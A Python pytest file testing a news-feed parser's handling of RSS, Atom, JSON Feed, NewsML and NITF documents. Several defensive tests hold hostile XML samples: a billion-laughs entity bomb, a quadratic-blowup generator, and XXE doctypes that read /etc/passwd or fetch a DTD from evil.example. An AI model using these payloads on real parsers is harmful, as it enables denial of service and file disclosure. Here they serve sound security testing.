"""parse_document and read_inputs: every format, detected from content, and hostile documents refused."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sources_fixtures import ATOM, RSS, SAMPLES, SEED

from watcher.errors import FormatError
from watcher.sources import parse_document, read_inputs
from watcher.sources.formats import sniff

NEWSML = SAMPLES / "newsml-g2"


def parse(data: bytes, **kw: object) -> list:
    return parse_document(data, origin="test-doc", source="src", **kw)  # type: ignore[arg-type]


def test_rss_items_have_identity_text_language_and_utc_time() -> None:
    items = parse(RSS)
    assert [i.guid for i in items] == ["urn:wire:1", "urn:wire:2"]
    first = items[0]
    assert first.title == "Attaque record de 188 drones"
    assert first.summary == "La Russie a lancé 188 drones."  # HTML reduced to text
    assert first.link == "https://example.org/1"
    assert first.published == datetime(2024, 11, 26, 7, 0, tzinfo=UTC)
    assert first.language == "fr"  # the feed's <language>
    assert first.source == "src"


def test_atom_html_title_and_content_become_text() -> None:
    (item,) = parse(ATOM)
    assert item.title == "Missile balistique"
    assert item.body == "A ballistic missile was fired.\nSecond paragraph."
    assert item.language == "en"
    assert item.guid == "urn:atom:1"


def test_source_language_overrides_document() -> None:
    items = parse(RSS, language="de")
    assert {i.language for i in items} == {"de"}


def test_json_feed() -> None:
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": "JSON wire",
        "language": "en",
        "items": [
            {"id": "j1", "url": "https://example.org/j1", "title": "Drones", "content_html": "<p>Forty drones</p>",
             "date_published": "2024-11-26T10:00:00+01:00"},
            {"id": 2, "content_text": "Plain text body about a ballistic missile", "url": "javascript:alert(1)"},
        ],
    }  # fmt: skip
    items = parse(json.dumps(doc).encode())
    assert [i.guid for i in items] == ["j1", "2"]
    assert items[0].body == "Forty drones"
    assert items[0].published == datetime(2024, 11, 26, 9, 0, tzinfo=UTC)
    assert items[1].link is None  # never a javascript: link
    assert items[1].language == "en"


def test_plain_json_is_not_a_feed() -> None:
    with pytest.raises(FormatError, match="not a JSON Feed"):
        parse(b'{"hello": "world"}')


def test_seed_text_dispatch_first_paragraph_is_title() -> None:
    (item,) = parse(SEED.read_bytes(), default_guid="seed.txt")
    assert item.title.startswith("Moins d’une semaine après le tir d’un missile russe")
    assert item.title.endswith("se montrent plus sceptiques.")
    assert "188 drones" in item.body
    assert item.language == "fr"  # detected: a text file declares none
    assert item.guid == "seed.txt"


def test_markdown_heading_is_title() -> None:
    (item,) = parse(b"# **Breaking**: missile fired\n\nA ballistic missile was fired at dawn today.\n")
    assert item.title == "Breaking: missile fired"
    assert item.language == "en"


def test_bracketed_flash_is_text_not_json() -> None:
    (item,) = parse(b"[URGENT] Missile balistique tire sur Dnipro, selon Kiev.\n\nSuite du texte.")
    assert item.title == "[URGENT] Missile balistique tire sur Dnipro, selon Kiev."
    with pytest.raises(FormatError, match="invalid JSON"):
        parse(b'{"version": "https://jsonfeed.org/version/1.1", "items": [')


def test_html_doctype_inside_feed_content_is_not_an_html_page() -> None:
    data = RSS.replace(b"<description>", b"<description>&lt;!DOCTYPE html&gt; <![CDATA[<!DOCTYPE html>]]>", 1)
    assert len(parse(data)) == 2


def test_text_without_guid_gets_stable_content_hash() -> None:
    a = parse(b"Some dispatch about drones over the capital city.")
    b = parse(b"Some dispatch about drones over the capital city.")
    assert a[0].guid == b[0].guid and a[0].guid.startswith("sha256:")


@pytest.mark.parametrize(
    ("name", "headline", "language", "has_body"),
    [
        ("LISTING_2_NewsML-G2_Text_Document.xml", 'Fed to halt QE to avert "bubble"', "en", True),
        ("LISTING_22_Sports_story_in_NewsML-G2NITF.xml", "Preview: Arizona Diamondbacks (29-23)", "en", True),
        (
            "LISTING_25_An_NITF_marked-up_article_conveyed_in_inlineXML.xml",
            "Arizona Diamondbacks",
            "en",
            True,
        ),
        # The IPTC example carries only a comment where its content would be: headline and language only.
        ("LISTING_1_A_NewsML-G2_News_Item.xml", 'Fed to halt QE to avert "bubble"', "en", False),
    ],
)
def test_iptc_samples(name: str, headline: str, language: str, has_body: bool) -> None:
    path = NEWSML / name
    if not path.exists():
        pytest.fail(f"IPTC sample missing: {path} (the shared/ folder must sit beside the clone)")
    items = parse_document(path.read_bytes(), origin=str(path), source="iptc")
    assert items
    item = items[0]
    assert item.title.startswith(headline)
    assert item.language == language
    assert bool(item.body) is has_body
    if has_body:
        assert len(item.body) > 200


def test_newsml_identity_version_and_metadata() -> None:
    (item,) = parse((NEWSML / "LISTING_2_NewsML-G2_Text_Document.xml").read_bytes())
    assert item.guid == "urn:newsml:acmenews.com:20161121:US-FINANCE-FED"
    assert item.version == "11"
    assert item.published == datetime(2018, 11, 21, 21, 25, 32, tzinfo=UTC)
    assert item.meta["slugline"] == "US-Finance-Fed"
    assert "central bank" in item.meta["subjects"]
    assert item.meta["dateline"] == "New York, NY"
    assert item.body.startswith("(New York, NY - October 21)")


def test_newsml_package_skeleton_is_a_clear_error() -> None:
    data = (NEWSML / "LISTING_24_News_Message_conveying_a_complete_News_Package.xml").read_bytes()
    with pytest.raises(FormatError, match="without any news item carrying text"):
        parse(data)


NEWS_MESSAGE = """<?xml version="1.0" encoding="UTF-8"?>
<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/">
  <header><sent>2024-11-26T10:00:00Z</sent></header>
  <itemSet>
    <packageItem guid="pkg"/>
    <newsItem guid="urn:afp:1" version="3" xml:lang="fr">
      <itemMeta><versionCreated>2024-11-26T10:15:00+01:00</versionCreated></itemMeta>
      <contentMeta><headline>188 drones lancés sur l'Ukraine</headline><slugline>Ukraine-Russie</slugline>
        <dateline>KIEV, 26 nov 2024 (AFP)</dateline></contentMeta>
      <contentSet><inlineXML contenttype="application/xhtml+xml">
        <html xmlns="http://www.w3.org/1999/xhtml"><body><p>Premier paragraphe.</p>
        <p>Second\u202e paragraphe.</p></body></html>
      </inlineXML></contentSet>
    </newsItem>
    <newsItem guid="urn:afp:2" version="1">
      <contentMeta><language tag="en-GB"/><headline>Drones over Kyiv</headline></contentMeta>
      <contentSet><inlineData contenttype="text/plain">Plain wire text about drones.</inlineData></contentSet>
    </newsItem>
  </itemSet>
</newsMessage>""".encode()


def test_newsml_message_with_item_set() -> None:
    items = parse(NEWS_MESSAGE)
    assert [(i.guid, i.version, i.language) for i in items] == [
        ("urn:afp:1", "3", "fr"),
        ("urn:afp:2", "1", "en"),
    ]
    assert items[0].body == "Premier paragraphe.\nSecond paragraphe."  # bidi override stripped
    assert items[0].published == datetime(2024, 11, 26, 9, 15, tzinfo=UTC)
    assert items[0].meta["dateline"] == "KIEV, 26 nov 2024 (AFP)"
    assert items[1].body == "Plain wire text about drones."


NITF = b"""<?xml version="1.0" encoding="UTF-8"?>
<nitf version="-//IPTC//DTD NITF 3.6//EN" xml:lang="fr">
  <head><title>Titre de head</title>
    <docdata><doc-id id-string="AFP-123"/><date.issue norm="20241126T101500+0100"/>
      <du-key version="2" key="ukraine"/></docdata></head>
  <body><body.head><hedline><hl1>Attaque de drones</hl1></hedline>
    <dateline>KIEV</dateline><abstract><p>Un r\xc3\xa9sum\xc3\xa9.</p></abstract></body.head>
    <body.content><p>Premier paragraphe.</p><p>Deuxi\xc3\xa8me <em>paragraphe</em>.</p></body.content>
  </body></nitf>"""


def test_nitf_document() -> None:
    (item,) = parse(NITF)
    assert item.guid == "AFP-123"
    assert item.version == "2"
    assert item.title == "Attaque de drones"
    assert item.summary == "Un résumé."
    assert item.body == "Premier paragraphe.\nDeuxième paragraphe."
    assert item.published == datetime(2024, 11, 26, 9, 15, tzinfo=UTC)
    assert item.language == "fr"


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"", "empty"),
        (b"  \n\t ", "empty"),
        (b"<!DOCTYPE html><html><body><form>login</form></body></html>", "html"),
        (b"<html><head><title>Sign in</title></head></html>", "html"),
        (RSS, "feed"),
        (ATOM, "feed"),
        (NITF, "nitf"),
        (NEWS_MESSAGE, "newsml"),
        (b'{"version": "https://jsonfeed.org/version/1.1"}', "json"),
        (b"Plain text dispatch", "text"),
        (b'\xef\xbb\xbf<?xml version="1.0"?><!-- c --><rdf:RDF xmlns:rdf="x"/>', "feed"),
    ],
)
def test_sniff(data: bytes, kind: str) -> None:
    assert sniff(data) == kind


def test_named_like_text_but_newsml_is_read_as_newsml(tmp_path: Path) -> None:
    path = tmp_path / "dispatch.txt"
    path.write_bytes(NEWS_MESSAGE)
    assert [i.guid for _label, i in read_inputs([str(path)])] == ["urn:afp:1", "urn:afp:2"]


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"", "empty document"),
        (b"<!DOCTYPE html><html><body><form action=login>Password</form></body></html>", "HTML page"),
        (b'<?xml version="1.0"?><rss version="2.0"><channel><item><title>cut', "malformed feed"),
        (b"\x00\x01\x02binary", "binary data"),
        (b"<nitf><body></body></nitf>", "without headline or text"),
        (b"<newsItem guid='x'><contentMeta><headline>cut", "malformed XML"),
    ],
)
def test_bad_documents_are_format_errors(data: bytes, message: str) -> None:
    with pytest.raises(FormatError, match=message):
        parse(data)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>"""


def quadratic(entity_size: int = 100_000, uses: int = 10_000) -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "' + b"x" * entity_size + b'">]>'
        b'<rss version="2.0"><channel><item><title>' + b"&a;" * uses + b"</title></item></channel></rss>"
    )


def test_billion_laughs_refused_before_parsing() -> None:
    with pytest.raises(FormatError, match="billion laughs"):
        parse(BILLION_LAUGHS)


def test_quadratic_blowup_refused_before_parsing() -> None:
    with pytest.raises(FormatError, match="quadratic blowup"):
        parse(quadratic())


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>',
    ],
)
def test_external_and_parameter_entities_refused(doctype: bytes) -> None:
    data = b'<?xml version="1.0"?>' + doctype + b'<rss version="2.0"><channel><title>&xxe;</title></channel></rss>'
    with pytest.raises(FormatError, match="refused XML"):
        parse(data)


def test_harmless_entity_declaration_still_reads() -> None:
    data = (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY nbsp "&#160;">]><rss version="2.0"><channel>'
        b"<title>t</title><item><guid>g</guid><title>Drones&nbsp;over the city today</title></item></channel></rss>"
    )
    (item,) = parse(data)
    assert item.title == "Drones over the city today"  # expanded, then whitespace folded


def test_feed_body_naming_a_file_is_not_opened(tmp_path: Path) -> None:
    from watcher.sources.feeds import parse_feed
    from watcher.sources.items import Context

    secret = tmp_path / "secret.xml"
    secret.write_bytes(RSS)  # a real feed: if feedparser opened the path, items would come back
    with pytest.raises(FormatError, match=r"malformed feed|not an RSS or Atom feed"):
        parse_feed(str(secret).encode(), Context(origin="x", source="s"))


def test_control_characters_stripped_and_long_fields_truncated() -> None:
    title = "Drone\x00 attack\x1b[31m \u202eon the city"
    body = "word " * 100_000
    doc = {
        "version": "https://jsonfeed.org/version/1.1",
        "items": [{"id": "x", "title": title, "content_text": body}],
    }
    (item,) = parse(json.dumps(doc).encode())
    assert item.title == "Drone attack[31m on the city"
    assert len(item.body) <= 200_001 and item.body.endswith("…")


def test_wrong_charset_recovers_with_the_right_text() -> None:
    """The server says ISO-8859-1, the bytes are UTF-8: feedparser's recovery is survivable, the text right."""
    data = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>t</title><item><guid>g</guid>'
        "<title>Missile balistique tiré près de la frontière</title></item></channel></rss>"
    ).encode()
    (item,) = parse_document(
        data, origin="x", source="s", headers={"content-type": "application/rss+xml; charset=iso-8859-1"}
    )
    assert item.title == "Missile balistique tiré près de la frontière"


def test_read_inputs_folder_labels_and_stdin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import io
    import sys

    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "a.txt").write_text("Drones over the city tonight, officials said.")
    (tmp_path / ".hidden.txt").write_text("never read")
    (tmp_path / "b.xml").write_bytes(RSS)
    labels = [label for label, _item in read_inputs([str(tmp_path)])]
    assert labels == [str(tmp_path / "b.xml"), str(tmp_path / "b.xml"), str(tmp_path / "sub/a.txt")]
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(b"A dispatch from stdin about missiles.")))
    ((label, item),) = list(read_inputs(["-"]))
    assert label == "-" and item.body == "A dispatch from stdin about missiles."
    assert item.title == "" and item.label == "A dispatch from stdin about missiles."  # no headline: all body
    with pytest.raises(FormatError, match="input not found"):
        list(read_inputs([str(tmp_path / "missing")]))
